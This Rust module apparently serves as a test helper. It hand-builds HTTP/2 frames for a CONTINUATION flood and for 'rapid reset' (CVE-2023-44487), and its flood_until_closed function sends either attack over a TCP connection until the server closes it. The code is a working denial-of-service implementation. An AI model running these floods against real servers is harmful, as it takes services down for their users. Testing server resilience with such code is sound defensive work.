//! HTTP/2 frames written by hand, for the attacks no well-behaved client library sends:
//! a header block continued for ever (a CONTINUATION flood) and streams reset as soon as
//! they are opened ("rapid reset", CVE-2023-44487). Header blocks use HPACK's literal forms
//! only (no Huffman, no dynamic table), which every decoder must accept (RFC 7541).

/// What an HTTP/2 client sends first (RFC 9113, 3.4).
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
/// RST_STREAM's error code for "the client no longer wants it".
const CANCEL: u32 = 0x8;

/// One frame: its 9-byte header, then `payload`.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame fits");
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&length.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// The preface and an empty SETTINGS frame: how a client opens a connection.
pub fn opening() -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    out.extend(frame(SETTINGS, 0, 0, &[]));
    out
}

/// An HPACK string literal (no Huffman); `text` shorter than 127 bytes.
fn string(out: &mut Vec<u8>, text: &[u8]) {
    out.push(u8::try_from(text.len()).expect("a short string"));
    out.extend_from_slice(text);
}

/// The header block of `GET path` to `authority` over `http`.
pub fn get_block(authority: &str, path: &str) -> Vec<u8> {
    // :method GET (static index 2), :scheme http (6), then :path (4) and :authority (1)
    // as literals without indexing.
    let mut out = vec![0x82, 0x86, 0x04];
    string(&mut out, path.as_bytes());
    out.push(0x01);
    string(&mut out, authority.as_bytes());
    out
}

/// A request on `stream` that is reset at once: HEADERS (whole, ending the stream) then
/// RST_STREAM(CANCEL).
pub fn opened_and_reset(stream: u32, block: &[u8]) -> Vec<u8> {
    let mut out = frame(HEADERS, END_HEADERS | END_STREAM, stream, block);
    out.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
    out
}

/// The start of a request on `stream` whose header block is never ended: HEADERS without
/// END_HEADERS.
pub fn unended_headers(stream: u32, block: &[u8]) -> Vec<u8> {
    frame(HEADERS, END_STREAM, stream, block)
}

/// One CONTINUATION of `stream`'s header block, of `fields` made-up header fields of about
/// 110 bytes each, not ending it.
pub fn continuation(stream: u32, fields: usize) -> Vec<u8> {
    let mut block = Vec::with_capacity(fields * 112);
    for _ in 0..fields {
        // A literal without indexing, with a new name.
        block.push(0x00);
        string(&mut block, b"x-flood");
        string(&mut block, &[b'a'; 100]);
    }
    frame(CONTINUATION, 0, stream, &block)
}

/// A whole request on `stream`: HEADERS that end both the header block and the stream.
pub fn request(stream: u32, block: &[u8]) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
}

/// The frames in `bytes` as (type, flags, stream), as far as they are whole.
pub fn parse(bytes: &[u8]) -> Vec<(u8, u8, u32)> {
    let mut frames = Vec::new();
    let mut rest = bytes;
    while rest.len() >= 9 {
        let length = usize::from(rest[0]) << 16 | usize::from(rest[1]) << 8 | usize::from(rest[2]);
        if rest.len() < 9 + length {
            break;
        }
        let stream = u32::from_be_bytes([rest[5], rest[6], rest[7], rest[8]]) & 0x7fff_ffff;
        frames.push((rest[3], rest[4], stream));
        rest = &rest[9 + length..];
    }
    frames
}

/// HEADERS, the frame type an answer starts with.
pub const HEADERS_FRAME: u8 = HEADERS;
/// GOAWAY: the server is closing the connection.
pub const GOAWAY_FRAME: u8 = 0x7;

/// Sends the client's opening on `stream`, then `flood(0)`, `flood(1)`, ... (up to `limit`
/// bytes in all) until the server closes the connection; how many bytes it took. What the
/// server sends is read and dropped, so that its writes never wait on this client.
pub fn flood_until_closed(
    mut stream: std::net::TcpStream,
    flood: impl Fn(u32) -> Vec<u8>,
    limit: usize,
) -> usize {
    use std::io::{Read as _, Write as _};
    let timeouts = stream
        .set_write_timeout(Some(std::time::Duration::from_secs(5)))
        .and_then(|()| stream.set_read_timeout(Some(std::time::Duration::from_millis(1))));
    if timeouts.is_err() || stream.write_all(&opening()).is_err() {
        return 0;
    }
    let mut sent = 0;
    let mut sink = [0u8; 65536];
    let mut round = 0;
    while sent < limit {
        let frames = flood(round);
        round += 1;
        if stream.write_all(&frames).is_err() {
            return sent;
        }
        sent += frames.len();
        // 0 is the server's close.
        if let Ok(0) = stream.read(&mut sink) {
            return sent;
        }
    }
    sent
}

/// What an attack sends in its round `n` (for [`flood_until_closed`]).
pub type Rounds<'a> = Box<dyn Fn(u32) -> Vec<u8> + 'a>;

/// Streams opened and reset at once, 100 a round (for [`flood_until_closed`]).
pub fn rapid_resets(block: &[u8]) -> Rounds<'_> {
    Box::new(move |round| {
        (0..100)
            .flat_map(|i| opened_and_reset(1 + 2 * (round * 100 + i), block))
            .collect()
    })
}

/// One header block that never ends: HEADERS, then CONTINUATIONs of 100 fields each (for
/// [`flood_until_closed`]).
pub fn endless_header_block(block: &[u8]) -> Rounds<'_> {
    Box::new(move |round| {
        if round == 0 {
            unended_headers(1, block)
        } else {
            continuation(1, 100)
        }
    })
}

/// The client's opening with the largest windows HTTP/2 allows, for the connection and
/// every stream: the server may send as much as it likes, whether or not it is read.
pub fn opening_with_open_windows() -> Vec<u8> {
    const INITIAL_WINDOW_SIZE: u16 = 0x4;
    const WINDOW_UPDATE: u8 = 0x8;
    let largest: u32 = 0x7fff_ffff;
    let mut settings = INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
    settings.extend_from_slice(&largest.to_be_bytes());
    let mut out = PREFACE.to_vec();
    out.extend(frame(SETTINGS, 0, 0, &settings));
    // The connection's window starts at 65,535 whatever SETTINGS says.
    out.extend(frame(
        WINDOW_UPDATE,
        0,
        0,
        &(largest - 65_535).to_be_bytes(),
    ));
    out
}
